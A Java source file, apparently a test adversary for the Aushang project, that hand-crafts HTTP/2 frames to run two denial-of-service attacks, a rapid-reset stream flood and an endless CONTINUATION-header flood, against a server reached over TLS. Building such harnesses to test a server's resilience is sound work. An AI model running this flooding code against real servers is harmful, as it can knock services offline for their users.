// SPDX-FileCopyrightText: The Aushang authors
// SPDX-License-Identifier: EUPL-1.2
package aushang.adversary;

import aushang.peer.Tls;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/// HTTP/2 frames by hand, as many as the other side takes.
///
/// @see <a href="https://www.rfc-editor.org/rfc/rfc9113">RFC 9113</a>
final class RapidReset implements AutoCloseable {

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_OF_STREAM_AND_HEADERS = 5;
    private static final int CANCEL = 8;

    /// GET https / by indices of the static table; the authority is `localhost`.
    private static final byte[] GET = {
        (byte) 0x82, (byte) 0x87, (byte) 0x84, 0x41, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'
    };

    private final SSLSocket socket;
    private final OutputStream out;

    RapidReset(URI server, Path ca) throws IOException {
        socket =
                (SSLSocket)
                        Tls.trusting(ca)
                                .getSocketFactory()
                                .createSocket(server.getHost(), server.getPort());
        SSLParameters parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        socket.startHandshake();
        out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(SETTINGS, 0, 0, new byte[0]);
        Thread.ofVirtual().start(this::readAway);
    }

    /// Opens streams and takes each back at once.
    void openAndReset(int streams) {
        try {
            for (int i = 0; i < streams; i++) {
                frame(HEADERS, END_OF_STREAM_AND_HEADERS, 2 * i + 1, GET);
                frame(RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, CANCEL});
            }
            out.flush();
        } catch (IOException e) {
            // The server has had enough, as it may.
        }
    }

    /// Begins headers that never end.
    void continueEndlessly(int frames) {
        try {
            frame(HEADERS, 1, 1, GET);
            byte[] one = new byte[1024];
            ByteBuffer.wrap(one).put((byte) 0).put((byte) 1).put((byte) 'x').put((byte) 0x7f);
            for (int i = 0; i < frames; i++) frame(CONTINUATION, 0, 1, one);
            out.flush();
        } catch (IOException e) {
            // The server has had enough, as it may.
        }
    }

    private void frame(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) 0).putShort((short) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        out.write(frame.array());
    }

    private void readAway() {
        try {
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        } catch (IOException e) {
            // The end.
        }
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
